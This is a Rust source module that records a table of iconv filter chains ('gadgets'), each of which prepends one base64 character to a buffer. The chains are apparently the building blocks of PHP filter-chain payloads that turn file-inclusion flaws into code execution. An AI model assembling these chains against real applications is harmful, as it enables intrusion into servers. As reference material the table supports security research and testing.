//! Character gadgets
//!
//! Each gadget is a sequence of `convert.iconv` conversions whose net effect,
//! once followed by a base64 decode/encode pair, is to prepend one base64
//! character to a base64 buffer. The conversions were found empirically against
//! glibc iconv; this module only records them.

use crate::constants::BASE64_ALPHABET;
use crate::error::{Result, WrapError};

/// One known gadget: the byte it produces and its filter sequence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Gadget {
    /// Base64 character prepended by the gadget
    pub byte: u8,
    /// `|`-separated filter sequence
    pub filters: &'static str,
}

impl Gadget {
    /// Number of filters in the sequence
    pub fn filter_count(&self) -> usize {
        self.filters.split('|').count()
    }
}

const GADGETS: &[(u8, &str)] = &[
    (b'0', "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UCS2.UTF8|convert.iconv.8859_3.UCS2"),
    (b'1', "convert.iconv.ISO88597.UTF16|convert.iconv.RK1048.UCS-4LE|convert.iconv.UTF32.CP1167|convert.iconv.CP9066.CSUCS4"),
    (b'2', "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP949.UTF32BE|convert.iconv.ISO_69372.CSIBM921"),
    (b'3', "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.ISO6937.8859_4|convert.iconv.IBM868.UTF-16LE"),
    (b'4', "convert.iconv.CP866.CSUNICODE|convert.iconv.CSISOLATIN5.ISO_6937-2|convert.iconv.CP950.UTF-16BE"),
    (b'5', "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.8859_3.UCS2"),
    (b'6', "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.CSIBM943.UCS4|convert.iconv.IBM866.UCS-2"),
    (b'7', "convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT|convert.iconv.ISO-IR-103.850|convert.iconv.PT154.UCS4"),
    (b'8', "convert.iconv.ISO2022KR.UTF16|convert.iconv.L6.UCS2"),
    (b'9', "convert.iconv.CSIBM1161.UNICODE|convert.iconv.ISO-IR-156.JOHAB"),
    (b'A', "convert.iconv.8859_3.UTF16|convert.iconv.863.SHIFT_JISX0213"),
    (b'a', "convert.iconv.CP1046.UTF32|convert.iconv.L6.UCS-2|convert.iconv.UTF-16LE.T.61-8BIT|convert.iconv.865.UCS-4LE"),
    (b'B', "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000"),
    (b'b', "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-2.OSF00030010|convert.iconv.CSIBM1008.UTF32BE"),
    (b'C', "convert.iconv.UTF8.CSISO2022KR"),
    (b'c', "convert.iconv.L4.UTF32|convert.iconv.CP1250.UCS-2"),
    (b'D', "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.IBM932.SHIFT_JISX0213"),
    (b'd', "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.BIG5"),
    (b'E', "convert.iconv.IBM860.UTF16|convert.iconv.ISO-IR-143.ISO2022CNEXT"),
    (b'e', "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UTF16.EUC-JP-MS|convert.iconv.ISO-8859-1.ISO_6937"),
    (b'F', "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.CP950.SHIFT_JISX0213|convert.iconv.UHC.JOHAB"),
    (b'f', "convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213"),
    (b'g', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|convert.iconv.IBM-932.UTF-8"),
    (b'G', "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90"),
    (b'H', "convert.iconv.CP1046.UTF16|convert.iconv.ISO6937.SHIFT_JISX0213"),
    (b'h', "convert.iconv.CSGB2312.UTF-32|convert.iconv.IBM-1161.IBM932|convert.iconv.GB13000.UTF16BE|convert.iconv.864.UTF-32LE"),
    (b'I', "convert.iconv.L5.UTF-32|convert.iconv.ISO88594.GB13000|convert.iconv.BIG5.SHIFT_JISX0213"),
    (b'i', "convert.iconv.DEC.UTF-16|convert.iconv.ISO8859-9.ISO_6937-2|convert.iconv.UTF16.GB13000"),
    (b'J', "convert.iconv.863.UNICODE|convert.iconv.ISIRI3342.UCS4"),
    (b'j', "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB|convert.iconv.CP950.UTF16"),
    (b'K', "convert.iconv.863.UTF-16|convert.iconv.ISO6937.UTF16LE"),
    (b'k', "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2"),
    (b'L', "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.R9.ISO6937|convert.iconv.OSF00010100.UHC"),
    (b'l', "convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS|convert.iconv.MSCP1361.UTF-32LE|convert.iconv.IBM932.UCS-2BE"),
    (b'M', "convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4|convert.iconv.UTF16BE.866|convert.iconv.MACUKRAINIAN.WCHAR_T"),
    (b'm', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.CP1163.CSA_T500|convert.iconv.UCS-2.MSCP949"),
    (b'N', "convert.iconv.CP869.UTF-32|convert.iconv.MACUK.UCS4"),
    (b'n', "convert.iconv.ISO88594.UTF16|convert.iconv.IBM5347.UCS4|convert.iconv.UTF32BE.MS936|convert.iconv.OSF00010004.T.61"),
    (b'O', "convert.iconv.CSA_T500.UTF-32|convert.iconv.CP857.ISO-2022-JP-3|convert.iconv.ISO2022JP2.CP775"),
    (b'o', "convert.iconv.JS.UNICODE|convert.iconv.L4.UCS2|convert.iconv.UCS-4LE.OSF05010001|convert.iconv.IBM912.UTF-16LE"),
    (b'P', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936|convert.iconv.BIG5.JOHAB"),
    (b'p', "convert.iconv.IBM891.CSUNICODE|convert.iconv.ISO8859-14.ISO6937|convert.iconv.BIG-FIVE.UCS-4"),
    (b'q', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.GBK.CP932|convert.iconv.BIG5.UCS2"),
    (b'Q', "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500-1983.UCS-2BE|convert.iconv.MIK.UCS2"),
    (b'R', "convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932|convert.iconv.SJIS.EUCJP-WIN|convert.iconv.L10.UCS4"),
    (b'r', "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.ISO-IR-99.UCS-2BE|convert.iconv.L4.OSF00010101"),
    (b'S', "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943|convert.iconv.GBK.SJIS"),
    (b's', "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90"),
    (b'T', "convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.iconv.CSA_T500.L4|convert.iconv.ISO_8859-2.ISO-IR-103"),
    (b't', "convert.iconv.864.UTF32|convert.iconv.IBM912.NAPLPS"),
    (b'U', "convert.iconv.INIS.UTF16|convert.iconv.CSIBM1133.IBM943"),
    (b'u', "convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61"),
    (b'V', "convert.iconv.CP861.UTF-16|convert.iconv.L4.GB13000|convert.iconv.BIG5.JOHAB"),
    (b'v', "convert.iconv.UTF8.UTF16LE|convert.iconv.UTF8.CSISO2022KR|convert.iconv.UTF16.EUCTW|convert.iconv.ISO-8859-14.UCS2"),
    (b'W', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.MS932.MS936"),
    (b'w', "convert.iconv.MAC.UTF16|convert.iconv.L8.UTF16BE"),
    (b'X', "convert.iconv.PT.UTF32|convert.iconv.KOI8-U.IBM-932"),
    (b'x', "convert.iconv.CP-AR.UTF16|convert.iconv.8859_4.BIG5HKSCS"),
    (b'Y', "convert.iconv.CP367.UTF-16|convert.iconv.CSIBM901.SHIFT_JISX0213|convert.iconv.UHC.CP1361"),
    (b'y', "convert.iconv.851.UTF-16|convert.iconv.L1.T.618BIT"),
    (b'Z', "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.iconv.BIG5HKSCS.UTF16"),
    (b'z', "convert.iconv.865.UTF16|convert.iconv.CP901.ISO6937"),
    (b'/', "convert.iconv.IBM869.UTF16|convert.iconv.L3.CSISO90|convert.iconv.UCS2.UTF-8|convert.iconv.CSISOLATIN6.UCS-4"),
    (b'+', "convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157"),
];

/// Look up the cheapest gadget producing `byte`.
///
/// When several sequences produce the same byte, the one with the shortest
/// serialized form wins.
pub fn gadget(byte: u8) -> Result<Gadget> {
    GADGETS
        .iter()
        .filter(|(b, _)| *b == byte)
        .min_by_key(|(_, filters)| filters.len())
        .map(|&(byte, filters)| Gadget { byte, filters })
        .ok_or(WrapError::UnsupportedByte(byte))
}

/// Check whether a gadget exists for `byte`.
pub fn is_representable(byte: u8) -> bool {
    GADGETS.iter().any(|(b, _)| *b == byte)
}

/// All bytes a gadget can inject, in base64 index order.
pub fn representable_alphabet() -> impl Iterator<Item = u8> {
    BASE64_ALPHABET.iter().copied().filter(|b| is_representable(*b))
}

/// Fail with [`WrapError::UnsupportedByte`] on the first byte without a gadget.
pub fn validate(bytes: &[u8]) -> Result<()> {
    match bytes.iter().find(|b| !is_representable(**b)) {
        Some(&byte) => Err(WrapError::UnsupportedByte(byte)),
        None => Ok(()),
    }
}
